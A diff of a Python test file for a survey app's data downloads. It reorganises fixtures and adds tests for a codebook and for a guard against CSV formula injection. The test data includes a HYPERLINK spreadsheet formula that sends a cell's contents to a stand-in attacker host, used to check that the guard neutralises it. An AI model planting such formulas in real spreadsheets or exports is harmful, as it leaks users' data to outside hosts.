@@ -4,126 +4,30 @@ persisted (suppressed) results; CSV injection; streaming; the audit log; who may
 from __future__ import annotations
 
 import csv
-import hashlib
 import io
 import json
 import math
-import uuid
 from pathlib import Path
 
-import numpy as np
 import pytest
-from sqlalchemy import func, insert, select, text
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from sqlalchemy import func, select
 
 from survey_app.extensions import db
-from survey_app.models import Answer, AuditEvent, Comment, Response, Wave
-from survey_app.services import exports, results
-from survey_app.services.accounts.sign_in import ensure_user
+from survey_app.models import AuditEvent, Response, Wave
+from survey_app.services import codebook, exports, formula_guard, mailing, results
 from survey_app.services.instruments import frozen_instrument
-from survey_app.services.waves import close_wave
-from tests.conftest import csrf_token
-
-PASSWORD = "downloads test passphrase"
-HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
-SMALL_CELL_COMMENT = "Only two of us work here, so you can tell who wrote this."
-
+from tests.exchange import (
+    HYPERLINK,
+    SMALL_CELL_COMMENT,
+    download_bytes,
+    history_fixture,  # noqa: F401 (the history fixture)
+    read_csv,
+    signed_in_client,
+)
 
 # ----------------------------------------------------------------------------- a history
-
-
-def insert_responses(
-    wave: Wave, cells: list[tuple[str, str | None, str | None, int]], *, seed: int
-):
-    """Insert ``n`` responses for each (side, area key, role, n), with answers drawn from a
-    seeded generator: some "don't know", some skipped, as real data has.
-
-    Returns the response ids in insertion order.
-    """
-    rng = np.random.default_rng(seed)
-    instrument = frozen_instrument(wave.instrument_version)
-    areas = {a.key: a.id for a in wave.relationship.service_areas}
-    responses, answers, ids = [], [], []
-    for side, area, role, n in cells:
-        for _ in range(n):
-            rid = uuid.UUID(bytes=rng.bytes(16), version=4)
-            ids.append(rid)
-            responses.append(
-                {
-                    "id": rid,
-                    "wave_id": wave.id,
-                    "instrument_version_id": wave.instrument_version_id,
-                    "side": side,
-                    "service_area_id": areas[area] if area else None,
-                    "role_level": role,
-                }
-            )
-            for item_no, item in enumerate(instrument.items):
-                draw = rng.random()
-                if draw < 0.05:
-                    continue  # skipped
-                if item.dont_know and draw < 0.12:
-                    answers.append({"response_id": rid, "item_no": item_no, "value": None})
-                else:
-                    value = int(rng.integers(1, instrument.scale.points + 1))
-                    answers.append({"response_id": rid, "item_no": item_no, "value": value})
-    db.session.execute(insert(Response), responses)
-    db.session.execute(insert(Answer), answers)
-    return ids
-
-
-def make_history(factory, *, labels=("2024-Q1", "2024-Q2")):
-    """A relationship with closed waves of 26 responses each (results computed on closing) and
-    an open wave. In the first wave, one response in a 12-person cell left a formula-like
-    comment, and one in a 2-person cell left a comment that must not be downloaded."""
-    rel = factory.relationship()
-    for i, label in enumerate(labels):
-        wave = factory.wave(rel, label, state="open")
-        ids = insert_responses(
-            wave,
-            [
-                ("client", "core-ict", "staff", 12),
-                ("client", "contact-centre", "manager", 6),
-                ("supplier", "core-ict", "staff", 6),
-                ("supplier", "contact-centre", "executive", 2),
-            ],
-            # Seeds whose answers give no two areas exactly equal means: with such data the
-            # scoring service stores an ICC(2) of -inf, which PostgreSQL's JSON refuses
-            # (reported to the scoring service's owner).
-            seed=102 + i,
-        )
-        if i == 0:
-            db.session.execute(
-                insert(Comment),
-                [
-                    {"response_id": ids[0], "question_key": "comment_improve", "text": HYPERLINK},
-                    {
-                        "response_id": ids[1],
-                        "question_key": "comment_keep",
-                        "text": "-2 meetings a week",
-                    },
-                    {
-                        "response_id": ids[-1],
-                        "question_key": "comment_improve",
-                        "text": SMALL_CELL_COMMENT,
-                    },
-                ],
-            )
-        close_wave(wave)
-        db.session.commit()
-    factory.wave(rel, "2099-Q1", state="open")
-    db.session.refresh(rel)  # loaded, so its id and name stay readable after a request
-    return rel
-
-
-@pytest.fixture
-def history(factory):
-    return make_history(factory)
-
-
-def download_bytes(table: str, fmt: str, relationship, wave: str | None = None) -> bytes:
-    rel_id = relationship if isinstance(relationship, int) else relationship.id
-    prepared = exports.prepare_download(table, fmt, exports.export_scope(rel_id, wave))
-    return b"".join(prepared.chunks)
 
 
 def finite_or_none(value):
@@ -133,11 +37,6 @@ def finite_or_none(value):
 def padded(row, width: int) -> list:
     """A read-only worksheet row, padded to the header's width (trailing blanks are dropped)."""
     return [*row, *([None] * (width - len(row)))]
-
-
-def read_csv(data: bytes) -> list[list[str]]:
-    assert data.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte-order mark"
-    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
 
 
 def stored_responses(relationship) -> dict[str, dict[str, object]]:
@@ -390,10 +289,39 @@ def test_the_codebook_describes_every_column_of_every_table(history):
     )
 
 
+def test_a_stored_column_the_codebook_lacks_is_typed_from_its_values_and_says_so():
+    # A table stored by an earlier version of the service may hold a column the codebook has
+    # since dropped: it still downloads, typed from its values, and marked undescribed.
+    columns = exports.tables._results_columns(
+        "scores",
+        ["wave", "retired_stat", "retired_flag"],
+        [["2024-Q1", None, True], ["", 2.5, None]],
+    )
+    assert columns[0] is codebook.columns("scores")[0]
+    assert [(c.type, c.description) for c in columns[1:]] == [
+        ("number", exports.UNDESCRIBED),
+        ("boolean", exports.UNDESCRIBED),
+    ]
+
+
+def test_every_codebook_column_is_one_line_of_prose_with_a_known_type():
+    for table in codebook.tables():
+        names = [c.name for c in codebook.columns(table)]
+        assert names[-1] == "suppressed" and len(set(names)) == len(names), table
+        assert codebook.table_description(table), table
+        for column in codebook.columns(table):
+            assert column.type in ("text", "integer", "number", "boolean"), (table, column.name)
+            text = column.description
+            assert text and "\n" not in text and text == " ".join(text.split()), (table, column)
+            assert all(isinstance(k, str) and v for k, v in column.value_labels.items())
+    # The columns several tables share are one description, not copies that could drift.
+    assert codebook.columns("scores")[0] is codebook.columns("gaps")[0]
+
+
 def test_a_table_longer_than_a_sheet_continues_on_another_sheet(monkeypatch, tmp_path):
     from openpyxl import load_workbook
 
-    monkeypatch.setattr(exports.downloads, "XLSX_MAX_ROWS", 4)
+    monkeypatch.setattr(exports.writers, "XLSX_MAX_ROWS", 4)
     table = exports.Table(
         "scores", (exports.Column("n", "integer", "a count"),), [[i] for i in range(7)]
     )
@@ -419,6 +347,46 @@ def test_only_closed_waves_can_be_downloaded(history):
         exports.prepare_download("scores", "sav", exports.export_scope(history))
 
 
+FORMULA_TEXTS = ["=1+1", "+44 121", "-2 meetings", "@SUM(A1)", "\tindent", "\rreturn", HYPERLINK]
+
+
+@pytest.mark.parametrize("text", FORMULA_TEXTS)
+def test_formula_like_text_is_guarded_and_the_guard_comes_off_on_reading(text):
+    guarded = formula_guard.neutralise(text)
+    assert guarded == "'" + text
+    assert formula_guard.restore(guarded) == text
+
+
+@given(st.text(max_size=12))
+@settings(max_examples=300, derandomize=True)
+def test_the_formula_guard_round_trips_any_text_it_can_tell_from_its_own_output(text):
+    guarded = formula_guard.neutralise(text)
+    assert not guarded.startswith(formula_guard.FORMULA_START)  # nothing a spreadsheet runs
+    if text.startswith("'") and text[1:].startswith(formula_guard.FORMULA_START):
+        # "'=x" as written by a person reads back as "=x": the one text the guard cannot tell
+        # from its own output (a spreadsheet shows both as =x).
+        assert formula_guard.restore(guarded) == text[1:]
+    else:
+        assert formula_guard.restore(guarded) == text
+
+
+def test_the_mail_merge_file_and_the_downloads_guard_cells_the_same_way():
+    rows = list(
+        csv.reader(
+            io.StringIO(mailing.sending._csv(iter([[t, "x", "y", "z"] for t in FORMULA_TEXTS])))
+        )
+    )
+    assert [r[0] for r in rows[1:]] == [formula_guard.neutralise(t) for t in FORMULA_TEXTS]
+
+
+def test_the_downloads_index_counts_each_relationships_closed_waves(factory, history):
+    empty = factory.relationship("A council — A supplier")
+    factory.wave(empty, "2024-Q1", state="open")
+    listed = {rel.name: closed for rel, closed in exports.downloadable_relationships()}
+    assert listed == {history.name: 2, empty.name: 0}
+    assert list(listed) == sorted(listed)
+
+
 def test_spss_names_are_valid_and_unique():
     assert exports.spss_names(["sp1", "1st", "with space", "AND", "a-b", "sp1"]) == [
         "sp1", "v1st", "with_space", "AND_", "a_b", "sp1_2",
@@ -427,24 +395,6 @@ def test_spss_names_are_valid_and_unique():
 
 
 # ----------------------------------------------------------------------------- the web
-
-
-def signed_in_client(app, role: str):
-    client = app.test_client()
-    email = f"{role}@exchange.example"
-    ensure_user(email, f"Exchange {role}", role, PASSWORD)
-    db.session.commit()
-    page = client.get("/sign-in")
-    answer = client.post(
-        "/sign-in",
-        data={
-            "csrf_token": csrf_token(page.get_data(as_text=True)),
-            "email": email,
-            "password": PASSWORD,
-        },
-    )
-    assert answer.status_code == 302
-    return client
 
 
 def test_the_downloads_page_lists_each_table_and_format_for_closed_waves(app, history):
@@ -568,22 +518,6 @@ def test_a_cli_export_of_an_open_wave_fails_in_one_line_and_writes_nothing(
     assert not out.exists() and not list(tmp_path.glob("*x.csv*"))
     result = runner.invoke(args=["export", "--table", "scores", "--format", "sav"])
     assert result.exit_code == 1 and "not offered as sav" in result.output
-
-
-# ----------------------------------------------------------------------------- helpers for imports
-
-
-def database_digest() -> str:
-    """A digest of every row of every table: equal before and after means nothing changed."""
-    digest = hashlib.sha256()
-    for table in db.metadata.sorted_tables:
-        columns = ", ".join(f'"{c.name}"' for c in table.columns)
-        order = ", ".join(f'"{c.name}"' for c in table.primary_key.columns) or columns
-        for row in db.session.execute(
-            text(f'SELECT {columns} FROM "{table.name}" ORDER BY {order}')
-        ):
-            digest.update(repr(tuple(row)).encode())
-    return digest.hexdigest()
 
 
 def write_file(tmp_path: Path, name: str, data: bytes) -> Path:
